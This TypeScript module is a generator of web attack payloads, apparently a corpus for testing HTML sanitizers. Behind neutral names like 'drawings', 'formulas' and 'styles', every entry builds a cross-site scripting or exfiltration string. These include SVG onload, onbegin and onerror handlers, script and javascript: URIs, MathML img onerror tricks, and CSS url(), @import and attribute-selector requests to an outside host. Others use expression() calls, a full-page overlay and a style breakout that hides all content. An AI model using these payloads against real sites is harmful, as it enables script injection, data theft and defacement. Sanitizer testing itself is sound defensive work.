/** Pictures and formulas in markup, and style sheets. */
import { references, type Family, type Maker } from './maker'

const drawings: readonly Maker[] = [
  (run) => `<svg onload="${run}">`,
  (run) => `<svg/onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><script>${references(run)}</script></svg>`,
  (run) => `<svg><script xlink:href="data:text/javascript,${run}" /></svg>`,
  (run) => `<svg><script href="data:text/javascript,${run}" /></svg>`,
  (run) => `<svg><a xlink:href="javascript:${run}"><text y=20>read on</text></a></svg>`,
  (run) => `<svg><a><animate attributeName=href values="javascript:${run}" /><text y=20>read on</text></a></svg>`,
  (run) => `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  (run) => `<svg><set onbegin="${run}" attributeName=x to=1>`,
  (run) => `<svg><animateTransform onbegin="${run}" attributeName=transform dur=1s>`,
  (run) => `<svg><image href=x onerror="${run}" /></svg>`,
  (run) => `<svg><foreignObject><iframe onload="${run}"></iframe></foreignObject></svg>`,
  (run) => `<svg><style>@import 'x';</style><image xlink:href=x onerror="${run}" />`,
  (run) => `<svg><discard onbegin="${run}" />`,
  (_run, away) => `<svg><image href="${away}" width=9 height=9 /></svg>`,
  (_run, away) => `<svg><use href="${away}#x" /></svg>`,
  (_run, away) => `<svg><feImage href="${away}" /></svg>`,
  (_run, away) => `<svg><rect width=9 height=9 fill="url(${away}#x)" /></svg>`,
  (run) => `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`
]

const formulas: readonly Maker[] = [
  (run) => `<math><mtext><img src=x onerror="${run}"></mtext></math>`,
  (run) => `<math><annotation-xml encoding="text/html"><img src=x onerror="${run}"></annotation-xml></math>`,
  (run) => `<math href="javascript:${run}">x</math>`,
  (run) => `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${run}">x</maction></math>`,
  (run) => `<math><mi//xlink:href="data:x,<script>${run}</script>">`
]

const styles: readonly Maker[] = [
  (_run, away) => `<style>body{background:url("${away}")}</style>`,
  (_run, away) => `<style>@import "${away}";</style>`,
  (_run, away) => `<style>@font-face{font-family:x;src:url(${away})}body{font-family:x}</style>`,
  (_run, away) => `<style>li:before{content:url(${away})}</style>`,
  (_run, away) => `<style>input[value^="a"]{background:url(${away})}</style>`,
  (_run, away) => `<div style="background:url('${away}')">x</div>`,
  (_run, away) => `<div style="list-style:url(${away});display:list-item">x</div>`,
  (_run, away) => `<div style="background:image-set('${away}' 1x)">x</div>`,
  (_run, away) => `<div style="cursor:url(${away}),auto">x</div>`,
  (run) => `<div style="width:expression(${run})">x</div>`,
  (run) => `<div style="background:url(javascript:${run})">x</div>`,
  (run) => `<div style="behavior:url(x);-moz-binding:url(javascript:${run})">x</div>`,
  (run) => `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${run}">x</p>`,
  (run) => `<style>p{transition:color 1s}</style><p style="color:red" ontransitionrun="${run}">x</p>`,
  (_run, away) => `expression(alert(1)); background:url(${away})`,
  () => `<div style="position:fixed;inset:0;background:white;z-index:99999">Epistle has ended</div>`,
  () => `</style><style>*{display:none!important}</style>`
]

export const foreign: readonly Family[] = [
  { name: 'drawings', makers: drawings },
  { name: 'formulas', makers: formulas },
  { name: 'styles', makers: styles }
]
